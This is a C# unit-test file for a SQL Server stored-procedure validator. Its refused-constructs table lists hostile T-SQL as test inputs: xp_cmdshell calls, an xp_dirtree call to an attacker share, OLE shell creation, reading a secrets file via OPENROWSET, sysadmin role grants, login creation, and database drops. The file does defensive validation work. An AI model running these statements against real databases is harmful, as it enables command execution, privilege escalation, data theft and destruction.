using System.Reflection;
using Microsoft.SqlServer.TransactSql.ScriptDom;
using TcStudio.WorkspaceDatabases;
using TcStudio.WorkspaceDatabases.SqlServer;

namespace TcStudio.UnitTests.WorkspaceDatabases;

/// <summary>
/// The SQL Server provider without a SQL Server: every T-SQL text it sends parses with ScriptDom (TSql160Parser),
/// and draft validation finds every refused construct, at its line.
/// </summary>
public sealed class SqlServerTSqlTests
{
    private static IList<ParseError> ParseErrors(string sql)
    {
        TSqlDraftValidator.Parse(sql, out var errors);
        return errors;
    }

    public static TheoryData<string, string> EmittedTexts()
    {
        var data = new TheoryData<string, string>();
        foreach (var field in typeof(SqlServerSql).GetFields(BindingFlags.Public | BindingFlags.Static).Where(f => f.IsLiteral))
        {
            data.Add(field.Name, (string)field.GetRawConstantValue()!);
        }
        data.Add(nameof(SqlServerSql.CreateDatabase), SqlServerSql.CreateDatabase("acme_dev"));
        data.Add(nameof(SqlServerSql.DropDatabase), SqlServerSql.DropDatabase("acme_dev"));
        data.Add(nameof(SqlServerSql.DropProcedure), SqlServerSql.DropProcedure(ProcedureName.Parse("sales.GetOrders")));
        data.Add("DropProcedure (odd name)", SqlServerSql.DropProcedure(ProcedureName.Parse("Get]Orders")));
        foreach (var migration in WorkspaceMigrations.For("sqlserver"))
        {
            data.Add($"{migration.Id} up", migration.Up);
            data.Add($"{migration.Id} down", migration.Down);
        }
        data.Add(nameof(SqlServerSql.GrantExecuteOnSchema), SqlServerSql.GrantExecuteOnSchema("sales"));
        data.Add("GrantExecuteOnSchema (odd name)", SqlServerSql.GrantExecuteOnSchema("odd]name"));
        data.Add("deploy text", TSqlDraftValidator.Check("dbo.GetOrders", "CREATE PROCEDURE dbo.GetOrders AS SELECT 1;").DeployText!);
        data.Add("restore text", TSqlDraftValidator.DefinitionAsCreateOrAlter("CREATE PROCEDURE [dbo].[GetOrders] AS SELECT 1"));
        return data;
    }

    [Theory]
    [MemberData(nameof(EmittedTexts))]
    public void Every_text_the_provider_sends_parses(string name, string sql)
    {
        var errors = ParseErrors(sql);
        Assert.True(errors.Count == 0, $"{name}: {string.Join("; ", errors.Select(e => $"{e.Line}:{e.Column} {e.Message}"))}");
    }

    [Fact]
    public void Migrations_are_ordered_with_both_directions()
    {
        var migrations = WorkspaceMigrations.For("sqlserver");
        Assert.Equal([1, 2], migrations.Select(m => m.Version));
        Assert.All(migrations, m => Assert.False(string.IsNullOrWhiteSpace(m.Down)));
        Assert.Equal(["CREATE SCHEMA tcstudio AUTHORIZATION dbo;"],
            SqlServerSql.Batches(migrations[0].Up).Take(1).Select(b => b.Trim().Split('\n').Last()));
        Assert.Equal(2, SqlServerSql.Batches(migrations[0].Down).Count);
        Assert.Equal(WorkspaceMigrations.For("postgres").Select(m => m.Id), migrations.Select(m => m.Id));
    }

    private const string Valid = """
        -- Orders of one customer, newest first.
        CREATE PROCEDURE dbo.GetOrders
            @CustomerId int,
            @Since date = NULL,
            @Count int OUTPUT
        AS
        BEGIN
            SET NOCOUNT ON;
            SELECT o.Id, o.Total FROM dbo.Orders AS o WHERE o.CustomerId = @CustomerId AND (@Since IS NULL OR o.PlacedOn >= @Since);
            SELECT @Count = @@ROWCOUNT;
            EXEC dbo.AuditRead @What = N'orders';
        END;
        """;

    [Fact]
    public void A_valid_draft_passes_and_is_deployed_as_create_or_alter_with_its_comments()
    {
        var check = TSqlDraftValidator.Check("dbo.GetOrders", Valid);
        Assert.True(check.Validation.IsValid, string.Join("; ", check.Validation.Errors));
        Assert.StartsWith("CREATE OR ALTER PROCEDURE dbo.GetOrders", check.DeployText);
        Assert.Contains("@@ROWCOUNT", check.DeployText);
        Assert.True(TSqlDraftValidator.Check("GetOrders", Valid).Validation.IsValid); // dbo is the default schema
        Assert.True(TSqlDraftValidator.Check("DBO.getorders", Valid).Validation.IsValid);
        Assert.Equal(["@Since"], TSqlDraftValidator.ParametersWithDefaults(Valid));

        var orAlter = TSqlDraftValidator.Check("dbo.GetOrders", Valid.Replace("CREATE PROCEDURE", "CREATE OR ALTER PROCEDURE"));
        Assert.StartsWith("CREATE OR ALTER PROCEDURE dbo.GetOrders", orAlter.DeployText);
    }

    public static TheoryData<string, string> RefusedConstructs => new()
    {
        // Dynamic SQL, in every form.
        { "EXEC sp_executesql N'SELECT 1';", "sp_executesql" },
        { "EXEC sys.sp_executesql @stmt = N'DROP TABLE dbo.Orders';", "sp_executesql" },
        { "EXECUTE SP_EXECUTESQL @sql;", "sp_executesql" },
        { "EXEC @proc;", "EXEC @variable" },
        { "EXEC @rc = @proc @Id = 1;", "EXEC @variable" },
        { "EXEC (@sql);", "Dynamic SQL" },
        { "EXEC ('SELECT ' + @column + ' FROM dbo.Orders');", "Dynamic SQL" },
        { "EXEC (N'SELECT 1');", "Dynamic SQL" },
        { "EXEC (N'EXEC xp_cmdshell ''whoami''');", "Dynamic SQL" },
        { "IF 1 = 1 BEGIN TRY EXEC ('DROP DATABASE other'); END TRY BEGIN CATCH SELECT 1; END CATCH;", "Dynamic SQL" },
        { "INSERT INTO #t EXEC (@sql);", "Dynamic SQL" },
        { "EXEC (N'SELECT 1') AT remote_server;", "linked server" },
        // Extended, OLE Automation and other system procedures.
        { "EXEC xp_cmdshell 'dir';", "xp_cmdshell" },
        { "EXEC master..xp_cmdshell 'dir';", "xp_cmdshell" },
        { "EXEC xp_dirtree '\\\\attacker\\share';", "xp_dirtree" },
        { "EXEC sys.xp_regread 'HKEY_LOCAL_MACHINE', 'SOFTWARE';", "xp_regread" },
        { "DECLARE @o int; EXEC sp_OACreate 'WScript.Shell', @o OUT;", "sp_OACreate" },
        { "EXEC sp_OAMethod @o, 'Run', NULL, 'calc';", "sp_OAMethod" },
        { "EXEC sp_configure 'show advanced options', 1;", "sp_configure" },
        { "EXEC sys.sp_configure 'xp_cmdshell', 1;", "sp_configure" },
        { "EXEC sp_addsrvrolemember 'me', 'sysadmin';", "sp_addsrvrolemember" },
        { "EXEC sp_addlinkedserver 'evil';", "sp_addlinkedserver" },
        { "EXEC msdb.dbo.sp_send_dbmail @recipients = 'x@example.com';", "msdb" },
        // Other databases and servers: three- and four-part names, linked servers, ad hoc sources.
        { "SELECT * FROM otherdb.dbo.Orders;", "otherdb" },
        { "SELECT * FROM otherdb..Orders;", "otherdb" },
        { "SELECT * FROM remote.otherdb.dbo.Orders;", "remote" },
        { "INSERT INTO otherdb.dbo.Audit (x) VALUES (1);", "otherdb" },
        { "UPDATE o SET Total = 0 FROM otherdb.dbo.Orders AS o;", "otherdb" },
        { "EXEC otherdb.dbo.GetOrders;", "otherdb" },
        { "SELECT otherdb.dbo.Price(1);", "otherdb" },
        { "SELECT o.Id, otherdb.dbo.Price(o.Id) FROM dbo.Orders AS o;", "otherdb" },
        { "SELECT * FROM dbo.Orders AS o CROSS APPLY otherdb.dbo.Lines(o.Id) AS l;", "otherdb" },
        { "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'SELECT 1') AS r;", "OPENROWSET" },
        { "SELECT * FROM OPENROWSET(BULK 'C:\\secrets.txt', SINGLE_CLOB) AS r;", "OPENROWSET" },
        { "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x;Integrated Security=SSPI').db.dbo.t;", "OPENDATASOURCE" },
        { "SELECT * FROM OPENQUERY(remote, 'SELECT 1');", "OPENQUERY" },
        { "BEGIN DISTRIBUTED TRANSACTION;", "DISTRIBUTED" },
        // The server itself.
        { "SELECT * FROM sys.server_principals;", "server_principals" },
        { "SELECT * FROM sys.sql_logins;", "sql_logins" },
        { "SELECT name FROM sys.databases;", "sys.databases" },
        { "SELECT * FROM master.sys.databases;", "master" },
        { "SELECT * FROM sys.dm_exec_sessions;", "dm_exec_sessions" },
        { "SELECT * FROM sysprocesses;", "sysprocesses" },
        { "SELECT * FROM sys.fn_get_audit_file('x', DEFAULT, DEFAULT);", "fn_get_audit_file" },
        { "CREATE ASSEMBLY evil FROM 0x4D5A;", "CREATE ASSEMBLY" },
        { "ALTER SERVER ROLE sysadmin ADD MEMBER me;", "ALTER SERVER ROLE" },
        { "CREATE SERVER ROLE mine;", "CREATE SERVER ROLE" },
        { "ALTER ROLE db_owner ADD MEMBER tcstudio_exec;", "ALTER ROLE" },
        { "USE master;", "USE" },
        { "BULK INSERT dbo.t FROM 'C:\\data.csv';", "BULK INSERT" },
        { "BACKUP DATABASE mine TO DISK = 'C:\\x.bak';", "BACKUP DATABASE" },
        { "DBCC CHECKDB;", "DBCC" },
        { "KILL 52;", "KILL" },
        { "CHECKPOINT;", "CHECKPOINT" },
        { "CREATE LOGIN intruder WITH PASSWORD = 'P@ssw0rd-long-1';", "CREATE LOGIN" },
        { "ALTER LOGIN sa ENABLE;", "ALTER LOGIN" },
        { "DROP LOGIN someone;", "DROP LOGIN" },
        { "CREATE USER intruder WITHOUT LOGIN;", "CREATE USER" },
        { "ALTER USER someone WITH DEFAULT_SCHEMA = dbo;", "ALTER USER" },
        { "DROP USER someone;", "DROP USER" },
        { "CREATE DATABASE other;", "CREATE DATABASE" },
        { "ALTER DATABASE CURRENT SET TRUSTWORTHY ON;", "ALTER DATABASE" },
        { "DROP DATABASE other;", "DROP DATABASE" },
        { "GRANT CONTROL SERVER TO public;", "GRANT" },
        { "GRANT SELECT ON dbo.t TO public;", "GRANT" },
        { "REVOKE SELECT ON dbo.t FROM public;", "REVOKE" },
        { "DENY SELECT ON dbo.t TO public;", "DENY" },
        { "SHUTDOWN WITH NOWAIT;", "SHUTDOWN" },
        { "RECONFIGURE;", "RECONFIGURE" },
        // Identity: no EXECUTE AS but the one the service adds outside the procedure.
        { "EXECUTE AS LOGIN = 'sa';", "EXECUTE AS LOGIN" },
        { "EXECUTE AS USER = 'dbo';", "EXECUTE AS USER" },
        { "EXECUTE AS CALLER;", "EXECUTE AS CALLER" },
        { "REVERT;", "REVERT" },
        { "SETUSER 'dbo';", "SET USER" },
        { "EXEC (N'SELECT 1') AS USER = 'dbo';", "EXECUTE … AS USER" },
        // The database's own schema stays the deploy's business; temporary objects are the procedure's own.
        { "CREATE TABLE dbo.Pwned (x int);", "CREATE TABLE" },
        { "CREATE TABLE ##shared (x int);", "##shared" },
        { "SELECT * INTO dbo.Copy FROM dbo.Orders;", "SELECT … INTO" },
        { "SELECT * INTO ##copy FROM dbo.Orders;", "##copy" },
        { "DROP TABLE dbo.Orders;", "DROP TABLE" },
        { "ALTER TABLE dbo.Orders ADD x int;", "ALTER TABLE" },
        { "CREATE INDEX ix ON dbo.Orders (Id);", "CREATE INDEX" },
        { "CREATE SYNONYM dbo.Elsewhere FOR otherdb.dbo.Orders;", "CREATE SYNONYM" },
        { "DROP PROCEDURE dbo.Other;", "DROP PROCEDURE" },
        { "UPDATE STATISTICS dbo.Orders;", "UPDATE STATISTICS" },
        { "RAISERROR ('x', 10, 1) WITH LOG;", "WITH LOG" },
        { "WAITFOR (RECEIVE * FROM dbo.q);", "WAITFOR" },
    };

    [Theory]
    [MemberData(nameof(RefusedConstructs))]
    public void Each_refused_construct_is_reported_at_its_line(string statement, string construct)
    {
        var sql = $"CREATE PROCEDURE dbo.Sneaky\nAS\nBEGIN\n    SELECT 1;\n    {statement}\nEND;";
        var check = TSqlDraftValidator.Check("dbo.Sneaky", sql);
        Assert.False(check.Validation.IsValid);
        var error = Assert.Single(check.Validation.Errors, e => e.Message.Contains(construct, StringComparison.OrdinalIgnoreCase));
        Assert.Equal(5, error.Line);
        Assert.Contains("not allowed", error.Message);
        Assert.Null(check.DeployText);
    }

    public static TheoryData<string, string> ProcedureLevelRefusals => new()
    {
        { "CREATE PROCEDURE dbo.P WITH EXECUTE AS OWNER AS SELECT 1;", "WITH EXECUTE AS OWNER" },
        { "CREATE PROCEDURE dbo.P WITH EXECUTE AS SELF AS SELECT 1;", "WITH EXECUTE AS SELF" },
        { "CREATE PROCEDURE dbo.P WITH EXECUTE AS 'dbo' AS SELECT 1;", "WITH EXECUTE AS STRING" },
        { "CREATE PROCEDURE dbo.P WITH ENCRYPTION AS SELECT 1;", "WITH ENCRYPTION" },
        { "CREATE PROCEDURE dbo.P AS EXTERNAL NAME Evil.[Evil.Shell].Run;", "EXTERNAL NAME" },
        { "CREATE PROCEDURE dbo.P FOR REPLICATION AS SELECT 1;", "FOR REPLICATION" },
    };

    [Theory]
    [MemberData(nameof(ProcedureLevelRefusals))]
    public void Procedure_options_that_change_who_runs_it_or_hide_it_are_refused(string draft, string construct)
    {
        var check = TSqlDraftValidator.Check("dbo.P", draft);
        Assert.False(check.Validation.IsValid);
        Assert.Contains(check.Validation.Errors, e => e.Message.Contains(construct, StringComparison.OrdinalIgnoreCase));
        Assert.Null(check.DeployText);
    }

    [Theory]
    [InlineData("sys.P")]
    [InlineData("tcstudio.P")]
    [InlineData("INFORMATION_SCHEMA.P")]
    public void Reserved_schemas_are_refused(string name)
    {
        var check = TSqlDraftValidator.Check(name, $"CREATE PROCEDURE {name} AS SELECT 1;");
        Assert.Contains("reserved", Assert.Single(check.Validation.Errors).Message);
    }

    /// <summary>Procedures a team writes every day: each must pass the allow-list untouched.</summary>
    public static TheoryData<string, string> AcceptedProcedures => new()
    {
        { "dbo.PlaceOrder", """
            CREATE PROCEDURE dbo.PlaceOrder @CustomerId int, @Lines nvarchar(max), @OrderId int OUTPUT
            WITH EXECUTE AS CALLER, RECOMPILE
            AS
            BEGIN
                SET NOCOUNT ON;
                SET XACT_ABORT ON;
                BEGIN TRY
                    BEGIN TRANSACTION;
                    INSERT INTO dbo.Orders (CustomerId, PlacedOn) VALUES (@CustomerId, SYSUTCDATETIME());
                    SET @OrderId = SCOPE_IDENTITY();
                    INSERT INTO dbo.OrderLines (OrderId, Sku, Quantity)
                    SELECT @OrderId, j.Sku, j.Quantity
                    FROM OPENJSON(@Lines) WITH (Sku nvarchar(40) '$.sku', Quantity int '$.qty') AS j;
                    COMMIT TRANSACTION;
                END TRY
                BEGIN CATCH
                    IF @@TRANCOUNT > 0 ROLLBACK TRANSACTION;
                    THROW;
                END CATCH;
            END;
            """ },
        { "sales.TopCustomers", """
            CREATE OR ALTER PROCEDURE sales.TopCustomers @Top int = 10
            AS
            WITH Totals AS (
                SELECT o.CustomerId, SUM(l.Quantity * l.Price) AS Revenue,
                       RANK() OVER (ORDER BY SUM(l.Quantity * l.Price) DESC) AS Position
                FROM sales.Orders AS o JOIN sales.OrderLines AS l ON l.OrderId = o.Id
                GROUP BY o.CustomerId
            )
            SELECT TOP (@Top) c.Name, t.Revenue, t.Position
            FROM Totals AS t JOIN dbo.Customers AS c ON c.Id = t.CustomerId
            ORDER BY t.Position
            OPTION (RECOMPILE);
            """ },
        { "dbo.Rebalance", """
            CREATE PROCEDURE dbo.Rebalance
            AS
            BEGIN
                DECLARE @moved TABLE (Id int PRIMARY KEY, Shelf int);
                CREATE TABLE #work (Id int NOT NULL, Shelf int NOT NULL, INDEX ix_work_shelf (Shelf));
                CREATE INDEX ix_work_id ON #work (Id);
                ALTER TABLE #work ADD Note nvarchar(40) NULL;
                EXEC sys.sp_set_session_context @key = N'job', @value = N'rebalance';
                INSERT INTO #work (Id, Shelf) SELECT Id, Shelf FROM dbo.Items WHERE Shelf IS NOT NULL;
                SELECT Id, Shelf INTO #copy FROM #work;
                MERGE dbo.Items AS target
                USING #work AS source ON target.Id = source.Id
                WHEN MATCHED AND target.Shelf <> source.Shelf + 1 THEN UPDATE SET Shelf = source.Shelf + 1
                OUTPUT inserted.Id, inserted.Shelf INTO @moved;
                SELECT COUNT(*) AS Moved FROM @moved;
                DROP TABLE #work, #copy;
            END;
            """ },
        { "dbo.WalkCursor", """
            CREATE PROCEDURE dbo.WalkCursor
            AS
            BEGIN
                DECLARE @id int, @total money = 0;
                DECLARE c CURSOR LOCAL FAST_FORWARD FOR SELECT Id FROM dbo.Orders WHERE Total > 0;
                OPEN c;
                FETCH NEXT FROM c INTO @id;
                WHILE @@FETCH_STATUS = 0
                BEGIN
                    SELECT @total += Total FROM dbo.Orders WHERE Id = @id;
                    IF @total > 1000 BREAK;
                    FETCH NEXT FROM c INTO @id;
                END;
                CLOSE c;
                DEALLOCATE c;
                PRINT CONCAT(N'total: ', @total);
                RETURN 0;
            END;
            """ },
        { "dbo.Nightly", """
            CREATE PROCEDURE dbo.Nightly
            AS
            BEGIN
                DECLARE @result int, @rc int;
                EXEC @result = sys.sp_getapplock @Resource = N'nightly', @LockMode = N'Exclusive', @LockOwner = N'Session', @LockTimeout = 0;
                IF @result < 0 RAISERROR (N'Nightly job already running (%d).', 16, 1, @result);
                EXEC @rc = dbo.PurgeOld @Days = 30;
                EXEC dbo.Rebalance;
                EXECUTE [dbo].[WalkCursor];
                WAITFOR DELAY '00:00:01';
                EXEC sp_releaseapplock @Resource = N'nightly', @LockOwner = N'Session';
            END;
            """ },
        { "dbo.Describe", """
            CREATE PROCEDURE dbo.Describe @Table sysname
            AS
            SELECT c.name, t.name AS type_name, c.max_length, c.is_nullable
            FROM sys.columns AS c
            JOIN sys.types AS t ON t.user_type_id = c.user_type_id
            WHERE c.object_id = OBJECT_ID(QUOTENAME(OBJECT_SCHEMA_NAME(OBJECT_ID(@Table))) + N'.' + QUOTENAME(@Table))
            UNION ALL
            SELECT COLUMN_NAME, DATA_TYPE, CHARACTER_MAXIMUM_LENGTH, CASE IS_NULLABLE WHEN 'YES' THEN 1 ELSE 0 END
            FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_NAME = @Table;
            """ },
        { "dbo.Settings", """
            CREATE PROCEDURE dbo.Settings
            AS
            BEGIN
                SET TRANSACTION ISOLATION LEVEL SNAPSHOT;
                SET LOCK_TIMEOUT 5000;
                SET DEADLOCK_PRIORITY LOW;
                SET ROWCOUNT 0;
                SET TEXTSIZE 65536;
                SET DATEFIRST 1;
                SAVE TRANSACTION before_update;
                UPDATE dbo.Config SET Value = N'on' WHERE Name = N'feature';
                DELETE FROM dbo.Config WHERE Name LIKE N'tmp%';
                TRUNCATE TABLE dbo.Staging;
                SELECT STRING_AGG(Name, N',') WITHIN GROUP (ORDER BY Name) AS Names, JSON_VALUE(N'{"a":1}', '$.a') AS A FROM dbo.Config;
            END;
            """ },
        { "dbo.InsertWithIdentity", """
            CREATE PROCEDURE dbo.InsertWithIdentity @Id int
            AS
            BEGIN
                SET IDENTITY_INSERT dbo.Items ON;
                INSERT INTO dbo.Items (Id, Shelf) VALUES (@Id, 1);
                SET IDENTITY_INSERT dbo.Items OFF;
                IF NOT EXISTS (SELECT 1 FROM dbo.Items WHERE Id = @Id) THROW 50001, N'missing', 1;
                GOTO done;
                done:
                SELECT NEXT VALUE FOR dbo.ItemNumbers AS NextNumber, NEWID() AS Token, @@ROWCOUNT AS Rows;
            END;
            """ },
        { "dbo.XmlAndSpatial", """
            CREATE PROCEDURE dbo.XmlAndSpatial @Doc xml
            AS
            BEGIN
                SELECT n.c.value('@id', 'int') AS Id, t.Doc.query('/order/line') AS Lines, t.Doc.exist('/order[@open]') AS IsOpen
                FROM dbo.Orders AS t CROSS APPLY t.Doc.nodes('/order') AS n(c);
                SELECT x.c.value('.', 'nvarchar(40)') FROM @Doc.nodes('/a/b') AS x(c);
                WITH Shapes AS (SELECT Id, Area FROM dbo.Regions)
                SELECT Shapes.Area.STArea(), geography::Point(47.6, -122.3, 4326).ToString() FROM Shapes;
                UPDATE dbo.Orders SET Doc.modify('delete /order/draft') WHERE Id = 1;
            END;
            """ },
        { "dbo.InsertFromProcedure", """
            CREATE PROCEDURE dbo.InsertFromProcedure
            AS
            BEGIN
                CREATE TABLE #result (Id int, Shelf int);
                INSERT INTO #result EXEC dbo.Rebalance;
                SELECT r.Id, i.Shelf FROM #result AS r LEFT JOIN dbo.Items AS i ON i.Id = r.Id;
            END;
            """ },
    };

    [Theory]
    [MemberData(nameof(AcceptedProcedures))]
    public void Everyday_procedures_pass_the_allow_list(string name, string draft)
    {
        var check = TSqlDraftValidator.Check(name, draft);
        Assert.True(check.Validation.IsValid, string.Join("; ", check.Validation.Errors));
        Assert.StartsWith("CREATE OR ALTER PROCEDURE", check.DeployText);
        Assert.Empty(ParseErrors(check.DeployText!));
    }

    private static List<TSqlStatement> StatementsOf(string sql)
    {
        var script = TSqlDraftValidator.Parse(sql, out var errors);
        Assert.Empty(errors);
        return script.Batches.SelectMany(b => b.Statements).ToList();
    }

    [Fact]
    public void Each_database_gets_its_own_execute_user_without_login_with_execute_on_its_schemas_only()
    {
        var statements = StatementsOf(SqlServerSql.EnsureExecuteUser);
        // A TRUSTWORTHY database is refused before anything is created in it.
        var trustworthy = Assert.IsType<IfStatement>(statements[0]);
        Assert.IsType<ThrowStatement>(trustworthy.ThenStatement);

        var create = Assert.IsType<CreateUserStatement>(Assert.IsType<IfStatement>(statements[1]).ThenStatement);
        Assert.Equal(SqlServerSql.ExecuteUser, create.Name.Value);
        Assert.Equal(UserLoginOptionType.WithoutLogin, create.UserLoginOption.UserLoginOptionType);

        var grants = statements.OfType<GrantStatement>().ToList();
        Assert.Equal(3, statements.Count);
        var grant = Assert.Single(grants);
        Assert.Equal(SecurityObjectKind.Schema, grant.SecurityTargetObject.ObjectKind);
        Assert.Equal("EXECUTE", Assert.Single(grant.Permissions).Identifiers.Single().Value, ignoreCase: true);
        Assert.Equal(SqlServerSql.ExecuteUser, Assert.Single(grant.Principals).Identifier.Value);
        Assert.False(grant.WithGrantOption);

        var perSchema = Assert.IsType<GrantStatement>(Assert.Single(StatementsOf(SqlServerSql.GrantExecuteOnSchema("sales"))));
        Assert.Equal(SecurityObjectKind.Schema, perSchema.SecurityTargetObject.ObjectKind);
        Assert.Equal("sales", perSchema.SecurityTargetObject.ObjectName.MultiPartIdentifier.Identifiers.Single().Value);
        Assert.Equal(SqlServerSql.ExecuteUser, Assert.Single(perSchema.Principals).Identifier.Value);
    }

    [Fact]
    public void Execution_enters_the_execute_user_with_no_revert_and_nothing_else_impersonates_or_grants()
    {
        var statements = StatementsOf(SqlServerSql.EnterExecuteUser);
        Assert.Equal(2, statements.Count);
        Assert.IsType<ThrowStatement>(Assert.IsType<IfStatement>(statements[0]).ThenStatement);
        var enter = Assert.IsType<ExecuteAsStatement>(statements[1]);
        Assert.Equal(ExecuteAsOption.User, enter.ExecuteContext.Kind);
        Assert.Equal(SqlServerSql.ExecuteUser, Assert.IsType<StringLiteral>(enter.ExecuteContext.Principal).Value);
        Assert.True(enter.WithNoRevert);
        Assert.Null(enter.Cookie);

        // Across everything the provider sends: one EXECUTE AS (that one), grants only to the execute user, on schemas,
        // and no login anywhere (the old shared execute login, granted in every database, is gone).
        foreach (var (name, sql) in EmittedTexts().Select(row => row.Data))
        {
            var all = StatementsOf(sql).SelectMany(Flatten).ToList();
            if (name != nameof(SqlServerSql.EnterExecuteUser)) Assert.DoesNotContain(all, s => s is ExecuteAsStatement);
            Assert.DoesNotContain(all, s => s is CreateLoginStatement or AlterLoginStatement or AlterServerRoleStatement or AlterRoleStatement);
            Assert.All(all.OfType<GrantStatement>(), g =>
            {
                Assert.Equal(SecurityObjectKind.Schema, g.SecurityTargetObject?.ObjectKind);
                Assert.Equal(SqlServerSql.ExecuteUser, Assert.Single(g.Principals).Identifier.Value);
            });
            Assert.DoesNotContain("FOR LOGIN", sql, StringComparison.OrdinalIgnoreCase);
        }
    }

    private static IEnumerable<TSqlStatement> Flatten(TSqlStatement statement) => statement switch
    {
        IfStatement s => [s, .. Flatten(s.ThenStatement), .. s.ElseStatement is null ? [] : Flatten(s.ElseStatement)],
        BeginEndBlockStatement s => [s, .. s.StatementList.Statements.SelectMany(Flatten)],
        _ => [statement],
    };

    [Fact]
    public void Nesting_within_the_limits_parses_and_is_checked()
    {
        var ifs = string.Concat(Enumerable.Repeat("IF 1 = 1 ", TSqlDraftValidator.MaxConditionals)) + "SELECT 1;";
        Assert.True(TSqlDraftValidator.Check("dbo.Deep", "CREATE PROCEDURE dbo.Deep AS\n" + ifs).Validation.IsValid);
        var depth = TSqlDraftValidator.MaxNesting - 2;
        var parens = "SELECT " + string.Concat(Enumerable.Repeat("(SELECT ", depth)) + "1" + new string(')', depth) + ";";
        Assert.True(TSqlDraftValidator.Check("dbo.Deep", "CREATE PROCEDURE dbo.Deep AS\nBEGIN TRAN;\nBEGIN TRANSACTION;\n" + parens + "\nCOMMIT;")
            .Validation.IsValid);
        var nested = "CREATE PROCEDURE dbo.Deep AS " + string.Concat(Enumerable.Repeat("BEGIN IF 1 = 1 ", 150)) + "EXEC xp_cmdshell 'x';"
            + string.Concat(Enumerable.Repeat(" END", 150));
        Assert.Contains("xp_cmdshell", Assert.Single(TSqlDraftValidator.Check("dbo.Deep", nested).Validation.Errors).Message);
    }

    [Fact]
    public void Shape_name_and_syntax_problems_are_reported_with_line_and_column()
    {
        var syntax = TSqlDraftValidator.Check("dbo.Broken", "CREATE PROCEDURE dbo.Broken\nAS\nSELECT FROM WHERE;");
        var error = Assert.Single(syntax.Validation.Errors);
        Assert.Equal(3, error.Line);
        Assert.True(error.Column > 1);

        Assert.Contains("must match",
            TSqlDraftValidator.Check("dbo.Expected", "CREATE PROCEDURE dbo.Other AS SELECT 1;").Validation.Errors.Single().Message);
        Assert.Contains("must match",
            TSqlDraftValidator.Check("sales.GetOrders", "CREATE PROCEDURE dbo.GetOrders AS SELECT 1;").Validation.Errors.Single().Message);
        Assert.Contains("database", // ScriptDom itself refuses a database prefix on CREATE PROCEDURE
            TSqlDraftValidator.Check("GetOrders", "CREATE PROCEDURE otherdb.dbo.GetOrders AS SELECT 1;").Validation.Errors.Single().Message);
        Assert.Contains("exactly one", TSqlDraftValidator.Check("dbo.P",
            "CREATE PROCEDURE dbo.P AS SELECT 1;\nGO\nCREATE PROCEDURE dbo.Q AS SELECT 2;").Validation.Errors.Select(e => e.Message)
                .First(m => m.Contains("exactly")));
        var extra = TSqlDraftValidator.Check("dbo.P", "CREATE PROCEDURE dbo.P AS SELECT 1;\nGO\nDROP TABLE dbo.Orders;");
        Assert.Equal(3, Assert.Single(extra.Validation.Errors).Line);
        Assert.False(TSqlDraftValidator.Check("dbo.P", "ALTER PROCEDURE dbo.P AS SELECT 1;").Validation.IsValid);
        Assert.False(TSqlDraftValidator.Check("dbo.P", "CREATE FUNCTION dbo.P() RETURNS int AS BEGIN RETURN 1 END;").Validation.IsValid);
        Assert.False(TSqlDraftValidator.Check("dbo.P", "").Validation.IsValid);
    }
}
